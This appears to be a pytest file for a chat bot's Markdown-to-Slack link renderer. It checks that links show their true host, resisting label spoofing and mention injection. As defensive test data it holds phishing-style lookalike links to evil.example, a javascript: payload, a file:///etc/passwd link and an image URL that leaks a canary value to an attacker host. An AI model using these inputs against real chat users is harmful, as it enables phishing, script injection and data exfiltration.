import pytest

from bot.render import to_mrkdwn


@pytest.mark.parametrize(
    ("markdown", "shown"),
    [
        ("[report](https://a.test/x?y=1&z=2)", "<https://a.test/x?y=1&amp;z=2|report> (a.test)"),
        ("<https://a.test/x>", "<https://a.test/x|https://a.test/x>"),
        ("[a.test](https://a.test/x)", "<https://a.test/x|a.test>"),
        ("[www.a.test news](https://a.test)", "<https://a.test|www.a.test news>"),
        ("[Ann](mailto:ann@a.test)", "<mailto:ann@a.test|Ann> (a.test)"),
        ("[x|y](https://a.test)", "<https://a.test|x¦y> (a.test)"),
        ("[**bold** label](https://a.test)", "<https://a.test|bold label> (a.test)"),
        ("[](https://a.test/x)", "<https://a.test/x|a.test>"),
        ("![a chart](https://a.test/c.png)", "a chart (`a.test/c.png`)"),
    ],
)
def test_a_link_shows_where_it_goes(markdown: str, shown: str) -> None:
    assert to_mrkdwn(markdown) == shown


@pytest.mark.parametrize(
    "markdown",
    [
        "[bank.example](https://evil.example/login)",
        "[https://bank.example/login](https://evil.example/login)",
        "[log in at bank.example now](https://evil.example/login)",
        "[bank.example](https://bank.example@evil.example/login)",
        "[bank.example](https://bank.example.evil.example/login)",
    ],
)
def test_a_label_cannot_pretend_to_be_another_host(markdown: str) -> None:
    label = to_mrkdwn(markdown).partition("|")[2].partition(">")[0]

    assert "evil.example" in label
    assert not label.startswith("bank.example/")


@pytest.mark.parametrize(
    "markdown",
    [
        "[x](javascript:alert(1))",
        "[x](data:text/html,hi)",
        "[x](file:///etc/passwd)",
        "[x](slack://channel?id=C1)",
        "[x](//evil.example)",
        "![secret](https://evil.example/p.png?d=CANARY)",
    ],
)
def test_what_is_no_plain_web_link_is_not_live(markdown: str) -> None:
    assert "<" not in to_mrkdwn(markdown)


def test_an_address_cannot_break_out_of_its_link() -> None:
    rendered = to_mrkdwn("[x](<https://a.test/|b> <!channel>)")

    assert "<!channel>" not in rendered
